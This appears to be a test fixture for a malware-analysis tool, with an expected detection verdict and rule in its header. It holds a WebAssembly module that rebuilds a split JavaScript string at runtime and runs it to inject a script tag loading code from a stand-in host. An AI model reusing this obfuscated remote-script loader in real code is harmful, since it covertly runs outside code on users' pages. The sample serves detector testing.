;; RUN: spoor trace % --json
;; WHAT: A script that the host is given to run, put together of three pieces, loads another from elsewhere.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS|POTENTIALLY_UNWANTED rule=load-code/script norule=communication/c2 status=exited
(module
  (import "env" "emscripten_run_script" (func $run (param i32)))
  (memory (export "memory") 1)
  (func (export "refresh")
    (memory.copy (i32.const 4096) (i32.const 1024) (i32.const 36))
    (memory.copy (i32.const 4132) (i32.const 1200) (i32.const 31))
    (memory.copy (i32.const 4163) (i32.const 1100) (i32.const 38))
    (call $run (i32.const 4096)))
  (data (i32.const 1024) "const t=document.createElement('scri")
  (data (i32.const 1100) ".invalid/w.js';document.body.append(t)")
  (data (i32.const 1200) "pt');t.src='https://cdn.example"))
